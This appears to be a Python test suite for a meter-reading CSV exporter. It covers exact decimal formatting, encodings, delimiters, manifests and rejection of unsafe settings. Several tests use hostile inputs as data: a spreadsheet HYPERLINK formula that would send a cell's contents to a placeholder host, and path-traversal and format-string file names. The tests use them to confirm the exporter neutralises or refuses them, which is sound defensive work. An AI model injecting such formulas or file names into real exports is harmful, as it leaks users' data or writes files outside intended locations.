"""Export files: the same bytes always, harmless in a spreadsheet, and read back exactly."""

from __future__ import annotations

import csv
import io
import json
import string
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lk_sync import config
from lk_sync.config import ExportSetting, ReadingExport
from lk_sync.errors import SettingsError
from lk_sync.flow import layout
from lk_sync.flow.items import ReadingItem, decimal_text
from lk_sync.store.batches import Batch

READING = ReadingItem(
    account="000012345",
    meter="М-1",
    serial="48-19203",
    period="2026-11",
    value_micro=123_450_000,
    taken_on="2026-11-20",
    flags=("confirmed_high", "rollover"),
    submitted_at="2026-11-20T10:00:00.000Z",
)
ALL = ("item", "account", "meter", "serial", "period", "value", "taken_on", "flags", "supersedes", "submitted_at")


def setting(**other: Any) -> ExportSetting:
    fields = [{"name": name, "value": name} for name in ALL]
    return config.convert({"fields": fields} | other, ReadingExport, path=Path("sink.yaml"))


def test_a_file_is_a_header_and_a_line_per_item() -> None:
    body = layout.body(setting(), [layout.cells(setting(), "ab12", READING)])
    assert body.decode() == (
        "item;account;meter;serial;period;value;taken_on;flags;supersedes;submitted_at\r\n"
        "ab12;000012345;М-1;48-19203;2026-11;123.45;2026-11-20;confirmed_high rollover;;2026-11-20T10:00:00.000Z\r\n"
    )


@pytest.mark.parametrize(
    ("micro", "shown"),
    [
        (0, "0"),
        (1, "0.000001"),
        (12_345_000, "12.345"),
        (7_000_000, "7"),
        (-1_500_000, "-1.5"),
        (10**18, "1000000000000"),
    ],
)
def test_a_value_is_an_exact_decimal_without_idle_zeros(micro: int, shown: str) -> None:
    assert decimal_text(micro) == shown
    assert Decimal(decimal_text(micro)).scaleb(6) == micro
    assert decimal_text(micro, ",") == shown.replace(".", ",")


@pytest.mark.parametrize("encoding", ["utf-8", "cp1251", "cp866"])
@pytest.mark.parametrize("delimiter", [";", ",", "|", "\t"])
@pytest.mark.parametrize("decimal", [".", ","])
def test_every_layout_is_read_back_by_a_plain_csv_reader(encoding: Any, delimiter: str, decimal: Any) -> None:
    chosen = layout.checked(setting(encoding=encoding, delimiter=delimiter, decimal=decimal), "reading")
    cells = layout.cells(chosen, "ab12", READING)
    text = layout.body(chosen, [cells]).decode(encoding)
    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)) == [list(ALL), cells]
    assert f"123{decimal}45" in cells


SPREADSHEET_STARTS = "=+-@\t\r\n\0＝＋－＠"


@pytest.mark.parametrize("start", SPREADSHEET_STARTS)
def test_a_cell_that_a_spreadsheet_would_execute_is_text_there(start: str) -> None:
    serial = f'{start}HYPERLINK("http://x/?"&A1;"48-19203")'
    reading = ReadingItem(**{name: getattr(READING, name) for name in READING.__struct_fields__} | {"serial": serial})
    cells = layout.cells(setting(), "ab12", reading)
    assert not any(cell.startswith(tuple(SPREADSHEET_STARTS)) for cell in cells)
    assert layout.told(cells[ALL.index("serial")]) == serial


@given(st.text(st.sampled_from("'=+-@;\"\r\n\t" + string.ascii_letters), max_size=6) | st.text(max_size=6))
def test_harmless_text_is_told_back_exactly_and_never_executed(text: str) -> None:
    cell = layout.harmless(text)
    assert layout.told(cell) == text
    assert not cell.startswith(tuple(SPREADSHEET_STARTS))


@pytest.mark.parametrize(
    "file",
    ["readings.csv", "readings-{n}.csv", "readings-{number", "../{number}.csv", "/in/{number}.csv", "a/{number}.csv",
     "{number}.txt", "-{number}.csv", "{number.real.__class__}.csv", "{number}.csv.part", "readings {number}.csv"],
)  # fmt: skip
def test_a_file_name_that_is_unsafe_or_without_a_number_is_refused(file: str) -> None:
    with pytest.raises(SettingsError, match="с номером в фигурных скобках"):
        layout.checked(setting(file=file), "reading")


@pytest.mark.parametrize(
    ("wrong", "why"),
    [
        ({"delimiter": '"'}, "delimiter"),
        ({"delimiter": "a"}, "delimiter"),
        ({"fields": [{"name": "id", "value": "item"}]}, "значением value"),
        ({"fields": [{"name": "v", "value": "value"}]}, "значением item"),
        ({"fields": [{"name": "v", "value": "value"}, {"name": "v", "value": "item"}]}, "стоит дважды"),
        ({"encoding": "cp866", "fields": [{"name": "v", "value": "value"}, {"name": "id™", "value": "item"}]}, "cp866"),
    ],
)
def test_a_layout_that_cannot_work_is_refused_with_the_key(wrong: dict[str, Any], why: str) -> None:
    with pytest.raises(SettingsError, match=why):
        layout.checked(setting(**wrong), "reading")


def test_the_manifest_says_all_that_is_needed_to_check_and_read_the_file() -> None:
    chosen = setting(encoding="cp1251")
    body = layout.body(chosen, [layout.cells(chosen, "ab12", READING)])
    batch = Batch(
        sink="books",
        number=7,
        kind="reading",
        file="readings-000007.csv",
        row_count=1,
        control_sum=123_450_000,
        sha256=layout.sha256(body),
        layout="",
        created_at="2026-11-23T09:00:00.000Z",
    )
    file = layout.export_file(batch, chosen, body)
    assert file.manifest_name == "readings-000007.csv.ok"
    assert json.loads(file.manifest) == {
        "file": "readings-000007.csv",
        "number": 7,
        "kind": "reading",
        "rows": 1,
        "control_sum": "123.45",
        "sums": {"value": "123.45"},
        "sha256": layout.sha256(body),
        "encoding": "cp1251",
        "delimiter": ";",
        "decimal": ".",
        "snapshot": False,
        "as_of": "2026-11-23T09:00:00.000Z",
    }
